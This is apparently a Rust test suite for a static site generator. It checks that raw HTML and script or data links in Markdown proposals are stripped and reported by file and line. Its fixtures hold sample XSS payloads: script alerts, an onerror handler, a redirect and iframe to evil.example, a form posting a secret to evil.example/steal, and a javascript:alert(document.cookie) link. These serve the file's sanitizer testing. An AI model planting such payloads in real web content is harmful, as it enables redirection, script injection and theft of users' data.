//! Raw HTML in the Markdown is sanitized: what could redirect a reader, run a script, load
//! a frame or post a form never reaches a page, harmless tags a secretary may paste stay,
//! and the build names the file and line of everything it removed.

mod common;
use common::*;

const SITE: &str = "theme: default
languages:
  - { code: zh-Hant, prefix: tc, html_lang: zh-Hant-HK, name: 繁體中文 }
  - { code: zh-Hans, prefix: sc, html_lang: zh-Hans, name: 简体中文, from: zh-Hant, opencc: hk2s }
  - { code: en, prefix: en, html_lang: en, name: English }
publisher: { zh-Hant: 測試商會, en: Test Chamber }
title: { zh-Hant: 建議, en: Proposals }
date: { zh-Hant: 2030 年, en: 2030 }
intro:
  zh-Hant: 簡介
  en: 'An <b onclick=alert(1)>intro</b>.'
pillars:
  - number: 1
    slug: general
    title: { zh-Hant: 綜合, en: General }
";

/// A proposal in `lang`: `words` in three numbered paragraphs, with every kind of raw HTML
/// between them. The line numbers are those the warnings must name.
fn proposal(title: &str, words: &str) -> String {
    format!(
        "---
number: 1
pillar: general
slug: raw
title: {title}
---

{words}: H<sub>2</sub>O, 10<sup>3</sup>, <abbr title=\"Hong Kong\">HK</abbr>, <mark>{words}</mark>,<br>{words}.

<meta http-equiv=\"refresh\" content=\"0;url=https://evil.example\">

{words} <script>alert(1)</script> <img src=https://example.org/x.png onerror=alert(1)> <span style=\"color:red\">{words}</span>.

<iframe src=\"https://evil.example/frame\"></iframe>

<form action=\"https://evil.example/steal\"><input name=\"secret\"><button name=\"steal\">{words}</button></form>

{words} <!-- a note for the secretariat --> {words}.
"
    )
}

fn fixture() -> Project {
    let project = Project::theme_only();
    project.write("content/site.yaml", SITE);
    project.write("content/proposals/raw.zh-Hant.md", proposal("原始", "香港"));
    project.write("content/proposals/raw.en.md", proposal("Raw", "Hong Kong"));
    project
}

#[test]
fn raw_html_that_redirects_runs_or_loads_never_reaches_a_page_and_harmless_tags_stay() {
    let project = fixture();
    let out = project.build();
    let pages = html_files(&out);
    assert!(pages.len() > 10, "{pages:?}");
    for page in &pages {
        let html = parse_page(&out.join(page));
        let shown = page.display();
        // The theme's own: the Content-Security-Policy, and the short links' redirect.
        let short_link = ["tc", "sc", "en"].iter().any(|prefix| page == &std::path::Path::new(prefix).join("1/index.html"));
        for meta in html.select(&sel("meta[http-equiv]")) {
            let (equiv, content) = (meta.value().attr("http-equiv").unwrap(), meta.value().attr("content").unwrap_or(""));
            let theirs = equiv == "Content-Security-Policy" || (short_link && equiv == "refresh" && content.ends_with("/proposals/raw/"));
            assert!(theirs, "{shown}: <meta http-equiv={equiv} content={content}> from the content");
        }
        for script in html.select(&sel("script")) {
            assert!(script.value().attr("src").is_some_and(|s| s.contains("assets/")), "{shown}: a script from the content");
        }
        for element in html.select(&sel("*")) {
            let attributes: Vec<&str> = element.value().attrs().map(|(name, _)| name).collect();
            assert!(!attributes.iter().any(|a| a.starts_with("on")), "{shown}: an event handler on <{}>", element.value().name());
            assert!(!attributes.contains(&"style"), "{shown}: a style attribute on <{}>", element.value().name());
        }
        for gone in ["iframe", "form[action*=evil]", "input[name=secret]", "button[name=steal]"] {
            assert!(html.select(&sel(gone)).next().is_none(), "{shown}: {gone}");
        }
        let text = std::fs::read_to_string(out.join(page)).unwrap();
        assert!(!text.contains("evil.example") && !text.contains("alert(1)") && !text.contains("a note for"), "{shown}");
    }
    for (page, words) in [("tc/proposals/raw/index.html", "香港"), ("sc/proposals/raw/index.html", "香港"), ("en/proposals/raw/index.html", "Hong Kong")] {
        let html = parse_page(&out.join(page));
        let first = html.select(&sel("main #p1-1")).next().unwrap_or_else(|| panic!("{page}: paragraph 1.1"));
        for kept in ["sub", "sup", "abbr[title=\"Hong Kong\"]", "mark", "br"] {
            assert!(first.select(&sel(kept)).next().is_some(), "{page}: <{kept}> kept");
        }
        assert_eq!(html.select(&sel("main p.para")).count(), 3, "{page}: the paragraphs are numbered as before");
        assert!(texts(&html, "main #p1-2 span").concat().contains(words), "{page}: the span's text stays");
    }
    let home = parse_page(&out.join("en/index.html"));
    assert_eq!(texts(&home, "main b"), ["intro"], "the intro's markup is sanitized too");
}

#[test]
fn the_build_names_the_file_and_line_of_everything_removed_and_strict_fails() {
    let project = fixture();
    let result = project.run(&["build"]);
    let err = stderr(&result);
    assert!(result.status.success(), "{err}");
    let warnings: Vec<&str> = err.lines().filter(|l| l.starts_with("warning:")).collect();
    for file in ["content/proposals/raw.zh-Hant.md", "content/proposals/raw.en.md"] {
        for (line, what) in [(10, "<meta"), (12, "<script>"), (12, "onerror"), (12, "style"), (14, "<iframe"), (16, "<form"), (16, "<input"), (16, "<button")] {
            let at = format!("{file}:{line}: ");
            assert!(warnings.iter().any(|w| w.contains(&at) && w.contains(what)), "a warning at {at} naming {what}:\n{err}");
        }
    }
    assert!(warnings.iter().any(|w| w.contains("content/site.yaml") && w.contains("intro (en)") && w.contains("onclick")), "{err}");
    assert_eq!(warnings.len(), 2 * 8 + 1, "one warning per removed construct, none for the comment:\n{err}");
    assert!(warnings.iter().all(|w| w.contains("Raw HTML")), "each points at the README:\n{err}");

    let strict = project.run(&["build", "--strict"]);
    assert!(!strict.status.success());
    assert!(stderr(&strict).contains("raw.en.md:10:"), "{}", stderr(&strict));
}

#[test]
fn check_counts_removed_markup_as_a_problem() {
    let project = fixture();
    let result = project.run(&["check"]);
    let stdout = String::from_utf8_lossy(&result.stdout);
    assert!(!result.status.success(), "{stdout}");
    assert!(stdout.contains("problem: ") && stdout.contains("raw.en.md:10: raw HTML <meta"), "{stdout}");
}

#[test]
fn markdown_links_and_images_with_a_script_or_data_address_are_removed_and_named() {
    let project = fixture();
    let body =
        "\n\nSee [this](javascript:alert(document.cookie)), <javascript:alert(1)> and ![a chart](data:text/html,hi); [the site](https://example.org/) stays.\n";
    project.edit("content/proposals/raw.en.md", |s| format!("{s}{body}"));
    project.edit("content/proposals/raw.zh-Hant.md", |s| format!("{s}\n\n見[這裡](https://example.org/)。\n"));
    let result = project.run(&["build"]);
    let err = stderr(&result);
    assert!(result.status.success(), "{err}");
    let line = project.read("content/proposals/raw.en.md").lines().position(|l| l.contains("javascript:alert(document")).unwrap() + 1;
    for address in ["javascript:alert(document.cookie)", "javascript:alert(1)", "data:text/html,hi"] {
        assert!(err.contains(&format!("raw.en.md:{line}: link or image address `{address}` removed")), "{address}:\n{err}");
    }
    let page = project.read("build/en/proposals/raw/index.html");
    let page_html = scraper::Html::parse_document(&page);
    let addresses: Vec<&str> = page_html.select(&sel("a[href], img[src]")).filter_map(|e| e.value().attr("href").or(e.value().attr("src"))).collect();
    assert!(addresses.iter().all(|a| !a.starts_with("javascript:") && !a.starts_with("data:")), "{addresses:?}");
    assert!(!page.contains("data:text/html"), "the image address is gone");
    assert!(page.contains("href=\"https://example.org/\""), "a web address stays");
    assert!(!project.run(&["build", "--strict"]).status.success());
}
